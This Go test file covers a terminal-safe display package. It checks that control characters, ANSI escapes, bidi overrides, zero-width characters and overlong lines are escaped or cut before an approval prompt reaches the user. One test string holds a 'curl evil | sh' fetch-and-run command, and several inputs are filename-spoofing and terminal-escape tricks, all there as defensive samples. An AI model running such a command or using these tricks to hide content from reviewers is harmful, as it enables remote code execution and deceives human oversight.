package ask

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestVisible(t *testing.T) {
	for in, want := range map[string]string{
		"fork":                            "fork",
		"/Users/jean/my code":             "/Users/jean/my code",
		"größe/日本":                        "größe/日本",
		`C:\code`:                         `C:\code`,
		"":                                `""`,
		" x":                              `" x"`,
		"a\nb":                            `"a\nb"`,
		"a\x1b[2Jb":                       `"a\x1b[2Jb"`,
		"a\rb\tc":                         `"a\rb\tc"`,
		"x\u202egpj.exe":                  `"x\u202egpj.exe"`,
		"\u2066iso\u2069":                 `"\u2066iso\u2069"`,
		"zero\u200bwidth":                 `"zero\u200bwidth"`,
		"nb\u00a0sp":                      `"nb\u00a0sp"`,
		"filler\u3164":                    `"filler\u3164"`,
		"\u009b31m":                       `"\u009b31m"`,
		"bad\xff":                         `"bad\xff"`,
		"tag\U000e0041":                   `"tag\U000e0041"`,
		`say "hi"`:                        `"say \"hi\""`,
		"\x7f":                            `"\x7f"`,
		"\u0301":                          `"\u0301"`,
		"e\u0301":                         "e\u0301",
		"e\u0301\u0301\u0301\u0301\u0301": `"e` + "\u0301\u0301\u0301\u0301" + `\u0301"`,
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %s, want %s", in, got, want)
		}
	}
}

func TestQuotedTextStandsBehindABar(t *testing.T) {
	got := render(Message{Body: "The tool asks:", Quoted: "Overwrite?\r\n\tnext\x1b]0;title\x07\nApprove? [y/N] y\n"})
	want := "The tool asks:\n  | Overwrite?\n  | \tnext\\x1b]0;title\\x07\n  | Approve? [y/N] y\n"
	if got != want {
		t.Errorf("got %q\nwant %q", got, want)
	}
	long := render(Message{Quoted: strings.Repeat("x", MaxShown+7)})
	if !strings.HasSuffix(long, "(7 more bytes are not shown)\n") {
		t.Error("a cut is not said")
	}
}

// A long value cannot push what is above or beside it out of sight.
func TestLongLinesAreCut(t *testing.T) {
	got := render(Message{Body: "before\n  + a = " + strings.Repeat("é ", 50_000) + "; curl evil | sh   (f:1)\nafter"})
	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(got, "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(got, "more bytes, in all sha256:") || !utf8.ValidString(got) {
		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
	}
	if got := render(Message{Quoted: strings.Repeat("x\n", 1000)}); !strings.HasSuffix(got, "(1000 lines in all)\n") {
		t.Error("the length is not said")
	}
}

// Nothing that reaches the terminal can act on it, and different values look different.
func FuzzVisible(f *testing.F) {
	for _, s := range []string{"a", "a\x1b[0m", "\u202e", "\xff\xfe", `"`, "\\x1b", "\u0301"} {
		f.Add(s, "b")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		for _, s := range []string{Visible(a), VisibleLine(a), VisibleText(a)} {
			if !utf8.ValidString(s) {
				t.Fatalf("%q became %q", a, s)
			}
			for _, r := range s {
				if !unicode.IsPrint(r) && r != '\n' && r != '\t' {
					t.Fatalf("%q kept %U", a, r)
				}
			}
		}
		if a != b && Visible(a) == Visible(b) {
			t.Fatalf("%q and %q both look like %s", a, b, Visible(a))
		}
	})
}

func TestVisibleJSON(t *testing.T) {
	for _, s := range []string{"größe 日本", "\u009b31m", "x\u202egpj", "\x7f", "tag\U000e0041", "nb\u00a0sp", "a\tb\n"} {
		plain, err := json.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		shown := VisibleJSON(plain)
		if escape(string(shown), false) != string(shown) {
			t.Errorf("%q became %q", s, shown)
		}
		var back string
		if err := json.Unmarshal(shown, &back); err != nil || back != s {
			t.Errorf("%s means %q: %v", shown, back, err)
		}
	}
	if got := string(VisibleJSON([]byte("{\n\t\"größe\": \"\xff\"\n}"))); got != "{\n\t\"größe\": \"\\ufffd\"\n}" {
		t.Error(got)
	}
}
